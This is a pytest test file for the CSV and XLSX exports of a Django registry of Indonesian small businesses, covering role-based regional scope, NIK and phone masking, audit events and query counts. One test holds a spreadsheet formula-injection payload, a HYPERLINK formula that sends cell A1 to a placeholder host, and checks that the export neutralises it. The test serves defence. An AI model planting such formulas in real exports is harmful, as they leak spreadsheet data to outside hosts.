"""Exports of the registry and the verification status: scope, masking, audit,
formula-safe cells, numbers as numbers, the same rows in CSV and XLSX, no per-row queries."""

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from geliat.accounts.models import User
from geliat.audit.models import AuditEvent
from geliat.core.masking import mask_nik, mask_phone
from geliat.exports import services
from geliat.exports.selectors import export_rows
from geliat.registry.models import AffectedGroup
from geliat.verification.models import Verification
from tests.exports.conftest import (
    RT1,
    RT2,
    TUTUR_DESA,
    as_csv_text,
    csv_table,
    records,
    registered,
    xlsx_book,
    xlsx_table,
)
from tests.factories import PersonFactory, UserFactory, region_node

NAME_COLUMN = {"businesses": "Nama usaha", "people": "Nama lengkap", "verification": "Nama usaha"}


def download(client, kind: str, fmt: str, **params):
    return client.get(reverse("exports:download", args=[kind, fmt]), params)


@pytest.fixture
def three_places(regions):
    """Businesses in RT 1 (two), RT 2 of the same RW, and a desa of another kecamatan."""
    return {
        "rt1": [registered(RT1, name="Warung Bu Sri"), registered(RT1, name="Salon Ayu")],
        "rt2": registered(RT2, name="Bakso Cak Man"),
        "tutur": registered(TUTUR_DESA, name="Kripik Tutur"),
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["businesses", "people", "verification"])
def test_rt_officer_exports_only_their_rt(kind, fmt, three_places, rt_officer, login):
    """An RT officer's export holds the records of their RT and nothing from next door."""
    response = download(login(rt_officer), kind, fmt)
    table = csv_table(response) if fmt == "csv" else xlsx_table(response)
    rows = records(table)
    if kind == "people":
        expected = {b.owner.full_name for b in three_places["rt1"]}
    else:
        expected = {b.name for b in three_places["rt1"]}
    assert {row[NAME_COLUMN[kind]] for row in rows} == expected


def test_coordinator_exports_the_whole_regency_with_places_named(three_places, coordinator, login):
    rows = records(csv_table(download(login(coordinator), "businesses", "csv")))
    assert len(rows) == 4
    tutur = next(row for row in rows if row["Nama usaha"] == "Kripik Tutur")
    assert (tutur["Desa/Kelurahan"], tutur["Kecamatan"]) == ("Ngadirejo", "Tutur")
    gerbo = next(row for row in rows if row["Nama usaha"] == "Bakso Cak Man")
    assert (gerbo["Desa/Kelurahan"], gerbo["Kecamatan"], gerbo["RT"], gerbo["RW"]) == ("Gerbo", "Purwodadi", "002", "001")
    assert gerbo["Status verifikasi"] == "Menunggu verifikasi"
    assert gerbo["Tingkat verifikasi"] == "RT"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_filters_of_the_list_page_apply(fmt, three_places, coordinator, login):
    registered(RT2, name="Pentol Pak Di", affected_group=AffectedGroup.STREET_VENDOR)
    response = download(login(coordinator), "businesses", fmt, group="3", region="35.14.01")
    table = csv_table(response) if fmt == "csv" else xlsx_table(response)
    assert [row["Nama usaha"] for row in records(table)] == ["Pentol Pak Di"]


def test_nik_and_phone_are_masked_by_default_and_audited(three_places, rt_officer, login):
    client = login(rt_officer)
    rows = records(csv_table(download(client, "people", "csv")))
    owner = three_places["rt1"][0].owner
    row = next(row for row in rows if row["Nama lengkap"] == owner.full_name)
    assert row["NIK"] == mask_nik(owner.nik) != owner.nik
    assert row["No. HP/WA"] == "'" + mask_phone(owner.phone)  # "+62…": neutralised like any "+" text
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert (event.object_type, event.actor, event.region_code) == ("export.people", rt_officer, RT1)
    assert event.after == {"filters": {}, "format": "csv", "rows": 2, "unmasked": False}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_full_nik_and_phone_when_ticked_and_the_audit_says_so(fmt, three_places, rt_officer, login):
    response = download(login(rt_officer), "businesses", fmt, lengkap="1", q="Salon")
    table = csv_table(response) if fmt == "csv" else xlsx_table(response)
    [row] = records(table)
    owner = three_places["rt1"][1].owner
    assert row["NIK pemilik"] == owner.nik
    assert row["No. HP/WA pemilik"] == "'" + owner.phone
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.after == {"filters": {"q": "Salon"}, "format": fmt, "rows": 1, "unmasked": True}
    assert event.note == "NIK dan nomor HP lengkap"


def test_a_role_that_does_not_need_personal_data_gets_it_masked_even_when_asking(
    three_places, rt_officer, login, monkeypatch
):
    monkeypatch.setattr(User, "needs_pii", property(lambda user: False))
    [*_header], *rows = csv_table(download(login(rt_officer), "people", "csv", lengkap="1"))
    assert {row[2] for row in rows} == {mask_nik(b.owner.nik) for b in three_places["rt1"]}
    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORT).after["unmasked"] is False


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cells_a_spreadsheet_would_run_are_neutralised(start, fmt, regions, rt_officer, login):
    name = start + 'HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
    registered(RT1, name=name)
    response = download(login(rt_officer), "businesses", fmt)
    if fmt == "csv":
        [row] = records(csv_table(response))
        assert row["Nama usaha"] == "'" + name
    else:
        sheet = xlsx_book(response).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("Nama usaha") + 1)
        assert cell.data_type == "s"  # text, never a formula cell
        # XML reads a carriage return inside text back as a line feed.
        assert cell.value == "'" + name.replace("\r", "\n")


def test_numbers_stay_numbers_and_nik_stays_text(regions, rt_officer, login):
    """XLSX: amounts are number cells, the NIK a 16-digit text cell (never 3.51E+15); CSV: digits."""
    business = registered(RT1, revenue_before=1_500_000, revenue_now=750_000, employees_before=4, employees_now=1)
    client = login(rt_officer)
    sheet = xlsx_book(download(client, "businesses", "xlsx", lengkap="1")).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = {name: sheet.cell(row=2, column=index + 1) for index, name in enumerate(header)}
    assert (row["Omzet per bulan sebelum pandemi (Rp)"].value, row["Omzet per bulan sebelum pandemi (Rp)"].data_type) == (1_500_000, "n")
    assert row["Karyawan sekarang"].value == 1 and row["Karyawan sekarang"].data_type == "n"
    assert (row["NIK pemilik"].value, row["NIK pemilik"].data_type) == (business.owner.nik, "s")
    assert row["Tanggal terdaftar"].is_date
    [csv_row] = records(csv_table(download(client, "businesses", "csv")))
    assert csv_row["Omzet per bulan sebelum pandemi (Rp)"] == "1500000"
    assert csv_row["Tanggal terdaftar"] == timezone.localdate().isoformat()


@pytest.mark.parametrize("kind", ["businesses", "people", "verification"])
def test_xlsx_has_the_same_rows_as_csv(kind, three_places, coordinator, login):
    client = login(coordinator)
    PersonFactory(full_name="Siti Sa'diyah", region=region_node(RT2))
    from_csv = csv_table(download(client, kind, "csv"))
    from_xlsx = [[as_csv_text(value) for value in row] for row in xlsx_table(download(client, kind, "xlsx"))]
    assert len(from_csv) > 1
    assert from_xlsx == from_csv


def test_verification_export_tells_status_level_and_days_waiting(regions, coordinator, login):
    waiting = registered(RT1, name="Lama Menunggu")
    Verification.objects.filter(registration__business=waiting).update(
        waiting_since=timezone.now() - datetime.timedelta(days=5)
    )
    fresh = registered(RT2, name="Baru Masuk")
    Verification.objects.filter(registration__business=fresh).update(status=Verification.Status.VERIFIED, level="")
    rows = {row["Nama usaha"]: row for row in records(csv_table(download(login(coordinator), "verification", "csv")))}
    late = rows["Lama Menunggu"]
    assert (late["Status verifikasi"], late["Tingkat verifikasi"], late["Lama menunggu (hari)"], late["Lewat batas waktu"]) == (
        "Menunggu verifikasi", "RT", "5", "ya"
    )
    done = rows["Baru Masuk"]
    assert (done["Status verifikasi"], done["Lama menunggu (hari)"], done["Menunggu sejak"]) == ("Terverifikasi", "", "")
    only_late = records(csv_table(download(login(coordinator), "verification", "csv", min_days="3")))
    assert [row["Nama usaha"] for row in only_late] == ["Lama Menunggu"]


@pytest.mark.parametrize("kind", ["businesses", "people", "verification"])
def test_no_query_per_row(kind, regions, coordinator):
    """Reading 3 rows or 12 takes the same queries: names come from joins and one region dict."""

    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            _header, rows = export_rows(user=coordinator, kind=kind, filters={}, unmasked=True)
            count = len(list(rows))
        return count, len(captured)

    for code in (RT1, RT2, TUTUR_DESA):
        registered(code)
    few_rows, few = queries()
    for _ in range(3):
        for code in (RT1, RT2, TUTUR_DESA):
            registered(code)
    many_rows, many = queries()
    assert (few_rows, many_rows) == (3, 12)
    assert many == few, f"{few} queries for 3 rows, {many} for 12"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_download_queries_do_not_grow_with_rows(fmt, regions, coordinator, login):
    client = login(coordinator)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = download(client, "businesses", fmt)
            b"".join(response.streaming_content)
        return len(captured)

    registered(RT1)
    few = queries()
    for _ in range(5):
        registered(RT2)
    assert queries() == few


def test_rows_past_the_sheet_limit_continue_on_another_sheet(three_places, coordinator, login, monkeypatch):
    monkeypatch.setattr(services, "XLSX_SHEET_ROWS", 3)
    book = xlsx_book(download(login(coordinator), "businesses", "xlsx"))
    assert book.sheetnames == ["Data", "Data 2"]
    assert [sheet.max_row for sheet in book.worksheets] == [4, 2]  # a header on each
    assert book.worksheets[1]["A1"].value == "ID usaha"


@pytest.mark.parametrize(
    "params",
    [{"group": "abc"}, {"group": "99"}, {"region": "bukan-kode"}, {"min_days": "x"}, {"status": "hilang"},
     {"warnings": "mungkin"}, {"page": "7", "lain": "1"}],
)
def test_filter_values_that_cannot_apply_do_not_break_the_export(params, three_places, rt_officer, login):
    client = login(rt_officer)
    for kind in ("businesses", "people", "verification"):
        assert download(client, kind, "csv", **params).status_code == 200
        assert client.get(reverse("exports:start", args=[kind]), params).status_code == 200


def test_unknown_kind_is_not_found_and_anonymous_users_are_sent_to_login(rt_officer, client, login):
    assert client.get("/ekspor/usaha.csv").status_code == 302
    assert client.get(reverse("exports:download", args=["businesses", "csv"])).status_code == 302
    client = login(rt_officer)
    assert client.get("/ekspor/usaha.csv").status_code == 404
    assert client.get("/ekspor/usaha/").status_code == 404


def test_start_page_shows_filters_count_and_carries_them_to_the_download(three_places, coordinator, login):
    response = login(coordinator).get(
        reverse("exports:start", args=["businesses"]), {"q": "Warung", "region": "35.14.01", "group": "2", "page": "3"}
    )
    html = response.content.decode()
    assert "Pencarian: Warung" in html and "Wilayah: Kecamatan Purwodadi" in html
    assert 'data-testid="export-count">1<' in html
    assert '<input type="hidden" name="q" value="Warung">' in html
    assert 'name="page"' not in html
    assert 'name="lengkap"' in html  # a coordinator's work needs full NIK and phone
    assert reverse("exports:download", args=["businesses", "xlsx"]) in html


def test_list_pages_link_to_the_export_with_their_filters(regions, rt_officer, login):
    client = login(rt_officer)
    for page, kind in (("registry:business_list", "businesses"), ("registry:person_list", "people"), ("verification:queue", "verification")):
        html = client.get(reverse(page), {"region": RT1}).content.decode()
        assert f'href="{reverse("exports:start", args=[kind])}?region={RT1}"' in html, page


def test_an_export_downloads_with_a_dated_file_name_and_is_not_cached(regions, rt_officer, login):
    response = download(login(rt_officer), "verification", "xlsx")
    assert response["Content-Disposition"] == f'attachment; filename="geliat-verifikasi-{timezone.localdate():%Y-%m-%d}.xlsx"'
    assert "no-store" in response["Cache-Control"]
    xlsx_book(response)


def test_officer_without_region_exports_nothing(regions, login):
    nobody = UserFactory(username="tanpa.wilayah")
    registered(RT1)
    table = csv_table(download(login(nobody), "businesses", "csv"))
    assert len(table) == 1  # the header only
